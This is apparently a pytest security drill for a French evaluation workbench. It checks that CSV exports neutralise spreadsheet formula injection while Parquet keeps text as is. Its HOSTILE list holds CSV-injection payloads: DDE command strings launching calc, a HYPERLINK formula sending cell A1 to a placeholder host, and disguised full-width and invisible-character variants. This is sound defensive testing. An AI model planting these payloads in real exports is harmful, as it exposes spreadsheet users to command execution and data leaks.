"""Drill: no export of the product hands a spreadsheet a formula (issue #5).

A database is seeded with hostile text wherever text reaches an export: question ids, texts and
themes, answers (the recorded human reply, replayed), Services Publics+ structures and themes.
Every export the product offers is then read back as bytes:

* Résultats: the table shown and the whole run (answers, passages, scores), CSV and Parquet;
* Indicateurs: by month, by structure and by theme, CSV.

In CSV, every cell a spreadsheet could run (``=``, ``+``, ``-``, ``@``, tab, CR, LF first; their
full-width and small forms; a trigger behind spaces or invisible characters; the minus sign) comes
back with a leading apostrophe, read with the csv module, while numbers (negative ones too) stay
numbers. Parquet keeps the text as it is (the README says why) and the numbers typed.

The exports are read twice: from the functions the pages call (fast), and from the real app in
Chromium, by clicking the download buttons (marker ``browser``). A static check makes sure no page
or module writes CSV or Parquet around ``workbench/exports.py``.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import shutil
import unicodedata
from datetime import datetime, timedelta
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

from app_server import serve_app
from workbench import exports, kpi, results
from workbench.config import parse_pipeline
from workbench.records import Document, Experience, Passage, Question, Reply
from workbench.replay import replay
from workbench.scoring import score_run
from workbench.store import Store

ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = "/usr/bin/chromium"

# Cells a spreadsheet could run as a formula, or fold into one.
HOSTILE = [
    '=HYPERLINK("http://exemple.invalid/?q="&A1;"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width equals sign
    "＋1+1",  # full-width plus sign
    "－1+1",  # full-width hyphen-minus
    "＠SUM(A1)",  # full-width commercial at
    "﹦1+1",  # small equals sign
    "   =1+1",  # a trigger behind spaces
    "\u00a0=1+1",  # behind a no-break space
    "\u200b=1+1",  # behind a zero-width space
    "\u22121+1",  # minus sign
]
# Text that looks close but cannot run, and numbers written as text: left exactly as they are.
BENIGN = ["Bonjour = merci", "l'APL", "é=1", "-3", "+2.5", "42"]
NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def could_run(cell: str) -> bool:
    """The test's own oracle: whether a spreadsheet could take this CSV cell for a formula."""
    if cell.startswith("'") or NUMBER.fullmatch(cell):
        return False
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
        return True
    visible = [c for c in cell if not (c.isspace() or unicodedata.category(c) == "Cf")]
    return bool(visible) and (unicodedata.normalize("NFKC", visible[0])[:1] in "=+-@" or visible[0] == "\u2212")


def test_the_oracle_knows_the_samples() -> None:
    assert all(could_run(cell) for cell in HOSTILE)
    assert not any(could_run(cell) for cell in BENIGN)


# -- the hostile database --------------------------------------------------------------------------


def seed_hostile(store: Store) -> str:
    """Questions, a replayed and scored run, and Services Publics+ experiences full of hostile
    text; returns the run's id."""
    texts = HOSTILE + BENIGN
    store.import_corpus(
        "kb",
        [Document(external_id="F1", title="Fiche", text="Texte de la fiche.", passages=[Passage(0, "Texte de la fiche.")])],
    )
    store.import_questions(
        "hostile",
        [
            Question(
                external_id=text if i % 3 == 0 else f"Q{i:02d}",
                text=text,
                theme=texts[(i + 1) % len(texts)],
                reference_answer="Bonjour, la réponse de référence est ici.",
                reference_context_ids=["F1"],
                recorded_answer=texts[(i + 2) % len(texts)],
            )
            for i, text in enumerate(texts)
        ],
    )
    pipeline = parse_pipeline({"name": "historique", "retrieval": {"kind": "none"}, "generation": {"kind": "recorded"}})
    run_id = replay(store, pipeline, "hostile").run_id
    score_run(store, run_id, ["rouge_l", "string_similarity", "length"])
    published = datetime(2025, 3, 3, 9, 0)
    experiences = []
    for i, text in enumerate(texts):
        # One structure answers the day before the publication (a data-entry error): its mean
        # response time is negative, and must stay a negative number in the CSV.
        delay = timedelta(days=-2 if i == 0 else i % 5)
        structure = texts[(i + 3) % len(texts)]
        experiences.append(
            Experience(
                id=f"exp-{i:02d}",
                description="Bonjour, j'attends une réponse.",
                title="Attente",
                published_at=published + timedelta(days=i),
                first_reply_at=published + timedelta(days=i) + delay,
                useful=i % 2 == 0,
                structures=[structure],
                theme=text,
                replies=[Reply(position=1, structure=structure, text="Bonjour, voici notre réponse.", ai_similarity=60.0)],
            )
        )
    store.import_experiences(experiences)
    return run_id


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Store, str]:
    store = Store(tmp_path_factory.mktemp("exports") / "hostile.duckdb", lock_timeout_s=60)
    return store, seed_hostile(store)


def page_exports(store: Store, run_id: str) -> dict[str, pd.DataFrame]:
    """The frames the pages hand to ``workbench.exports`` (views/resultats.py, views/indicateurs.py)."""
    answers, scores = store.answers_frame(run_id), store.scores_frame([run_id])
    report = kpi.report(store)
    return {
        "résultats (affichés)": results.question_table(answers, scores),
        "résultats (tout)": results.full_export(answers, scores),
        "indicateurs par mois": pd.DataFrame(report["by_month"]),
        "indicateurs par structure": pd.DataFrame(report["by_structure"]),
        "indicateurs par thème": pd.DataFrame(report["by_theme"]),
    }


# -- checks on the bytes ---------------------------------------------------------------------------


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, so spreadsheets read the accents"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def check_csv(name: str, data: bytes, frame: pd.DataFrame) -> set[str]:
    """No cell of the file could run; numeric columns are numbers. Returns the text cells."""
    rows = csv_rows(data)
    header, body = rows[0], rows[1:]
    assert len(body) == len(frame), name
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if could_run(c)], f"{name}: {[c for c in cells if could_run(c)][:5]}"
    for position, column in enumerate(frame.columns):
        if pd.api.types.is_numeric_dtype(frame[column]) and not pd.api.types.is_bool_dtype(frame[column]):
            written = [row[position] for row in body if row[position] != ""]
            assert all(NUMBER.fullmatch(v) for v in written), f"{name}, {column}: {written[:5]}"
            # (as multisets: the page sorts the rows shown)
            expected = sorted(v for v in as_floats(frame[column]) if v == v)
            assert sorted(float(v) for v in written) == pytest.approx(expected), (name, column)
    return set(cells)


# The only export without user text: months are computed (its cells are still checked above).
NO_USER_TEXT = {"indicateurs par mois"}


def check_hostile_cells_neutralised(name: str, cells: set[str], column_values: set[str]) -> None:
    """Each hostile value that the export carries comes back with an apostrophe, benign ones as they are."""
    hostile = [v for v in HOSTILE if v in column_values]
    benign = [v for v in BENIGN if v in column_values]
    if name.removesuffix(" (app)") in NO_USER_TEXT:
        assert not hostile and not benign, name
        return
    assert hostile, f"{name}: the export carries none of the hostile values, the drill proves nothing"
    for value in hostile:
        assert "'" + value in cells and value not in cells, (name, value)
    for value in benign:
        assert value in cells, (name, value)


def as_floats(column: pd.Series) -> list[float]:
    return column.astype("Float64").to_numpy(dtype="float64", na_value=float("nan")).tolist()


def text_values(frame: pd.DataFrame) -> set[str]:
    return {v for column in frame.columns for v in frame[column].tolist() if isinstance(v, str)}


def test_every_csv_export_neutralises_formulas_and_keeps_numbers(hostile: tuple[Store, str]) -> None:
    store, run_id = hostile
    frames = page_exports(store, run_id)
    negative = frames["indicateurs par structure"]["mean_response_days"].min()
    assert negative < 0, "the seeded negative response time reaches the KPI table"
    for name, frame in frames.items():
        data, mime = exports.export_bytes(frame, "csv")
        assert mime == "text/csv"
        cells = check_csv(name, data, frame)
        check_hostile_cells_neutralised(name, cells, text_values(frame))
    kpi_cells = csv_rows(exports.to_csv_bytes(frames["indicateurs par structure"]))
    assert f"{negative}" in {c for row in kpi_cells for c in row}, "a negative number, written as a number"


def test_parquet_exports_keep_the_text_as_it_is_and_numbers_typed(hostile: tuple[Store, str]) -> None:
    store, run_id = hostile
    for name, frame in page_exports(store, run_id).items():
        data, mime = exports.export_bytes(frame, "parquet")
        assert mime == "application/vnd.apache.parquet"
        table = pq.read_table(io.BytesIO(data))
        back = table.to_pandas()
        assert list(back.columns) == [str(c) for c in frame.columns], name
        assert text_values(frame) & set(HOSTILE) <= text_values(back), name  # as they are, no apostrophe
        assert not any(isinstance(v, str) and v.startswith("'") for v in text_values(back) - text_values(frame)), name
        for column in frame.columns:
            if pd.api.types.is_numeric_dtype(frame[column]):
                assert pd.api.types.is_numeric_dtype(back[column]), (name, column)
                assert as_floats(back[column]) == pytest.approx(as_floats(frame[column]), nan_ok=True), (name, column)


def test_no_page_or_module_writes_csv_or_parquet_around_exports() -> None:
    """Every download button takes its bytes from workbench.exports (directly, or through a
    function of the page that builds them on click); nothing else calls to_csv or to_parquet. A
    new export (ratings, say) written another way fails here."""
    sources = sorted((ROOT / "views").glob("*.py")) + sorted((ROOT / "workbench").rglob("*.py")) + [ROOT / "app.py"]
    offenders, buttons = [], 0
    for file in sources:
        if file == ROOT / "workbench" / "exports.py":
            continue
        tree = ast.parse(file.read_text(encoding="utf-8"), filename=str(file))
        assigned = {
            target.id: node.value
            for node in ast.walk(tree) if isinstance(node, ast.Assign)
            for target in node.targets if isinstance(target, ast.Name)
        } | {
            element.id: node.value
            for node in ast.walk(tree) if isinstance(node, ast.Assign)
            for target in node.targets if isinstance(target, ast.Tuple)
            for element in target.elts if isinstance(element, ast.Name)
        } | {
            # A function that builds the file when the button is clicked (data=callable).
            node.name: node for node in ast.walk(tree) if isinstance(node, ast.FunctionDef)
        }
        for node in ast.walk(tree):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            where = f"{file.relative_to(ROOT)}:{node.lineno}"
            if node.func.attr in ("to_csv", "to_parquet", "write_csv", "write_table"):
                offenders.append(f"{where} {node.func.attr}")
            if node.func.attr == "download_button":
                buttons += 1
                data = next((k.value for k in node.keywords if k.arg == "data"), node.args[1] if len(node.args) > 1 else None)
                if isinstance(data, ast.Name):
                    data = assigned.get(data.id, data)
                if data is None or "exports." not in ast.unparse(data):
                    offenders.append(f"{where} download_button({ast.unparse(data) if data else '?'})")
    assert buttons >= 4, "the drill no longer sees the pages' download buttons"
    assert offenders == [], offenders


# -- the same exports, downloaded from the real app ---------------------------------------------------


@pytest.mark.browser
def test_downloads_from_the_real_app_are_formula_safe(hostile: tuple[Store, str], tmp_path: Path) -> None:
    if not Path(CHROMIUM).exists():
        pytest.skip("Chromium absent : `apt-get install -y chromium` (fait par .ci/run)")
    from playwright.sync_api import sync_playwright

    store, run_id = hostile
    db = tmp_path / "hostile.duckdb"
    shutil.copy(store.path, db)
    frames = page_exports(Store(db), run_id)
    downloads: dict[str, bytes] = {}
    with serve_app(db, tmp_path, env={"WORKBENCH_PIPELINES_DIR": str(tmp_path / "pipelines")}) as url:
        with sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=CHROMIUM, headless=True,
                args=["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"],
            )
            page = browser.new_page(accept_downloads=True, viewport={"width": 1440, "height": 1000}, locale="fr-FR")

            def ready(title: str) -> None:
                page.get_by_role("heading", name=title, level=1).wait_for(timeout=60_000)
                page.locator('[data-testid="stApp"][data-test-script-state="notRunning"]').wait_for(timeout=60_000)
                assert page.locator('[data-testid="stException"]').count() == 0, title

            def download(button: str, key: str) -> None:
                with page.expect_download(timeout=30_000) as pending:
                    page.get_by_role("button", name=button).click()
                downloads[key] = Path(pending.value.path()).read_bytes()

            page.goto(url)
            ready("Accueil")
            nav = page.locator('[data-testid="stSidebarNav"]')
            nav.get_by_role("link", name="Résultats").click()
            ready("Résultats")
            n = len(frames["résultats (affichés)"])
            download(f"Exporter (CSV, {n} lignes)", "résultats (affichés)")
            page.get_by_text("toute l'exécution (avec passages et scores)").click()
            ready("Résultats")
            download(f"Exporter (CSV, {n} lignes)", "résultats (tout)")
            page.get_by_text("PARQUET", exact=True).click()
            ready("Résultats")
            download(f"Exporter (PARQUET, {n} lignes)", "résultats (tout, parquet)")
            nav.get_by_role("link", name="Indicateurs").click()
            ready("Indicateurs")
            download("Mois (CSV)", "indicateurs par mois")
            download("Structures (CSV)", "indicateurs par structure")
            download("Thèmes (CSV)", "indicateurs par thème")
            browser.close()

    for name, frame in frames.items():
        cells = check_csv(f"{name} (app)", downloads[name], frame)
        check_hostile_cells_neutralised(f"{name} (app)", cells, text_values(frame))
    parquet = pq.read_table(io.BytesIO(downloads["résultats (tout, parquet)"])).to_pandas()
    assert text_values(frames["résultats (tout)"]) & set(HOSTILE) <= text_values(parquet)
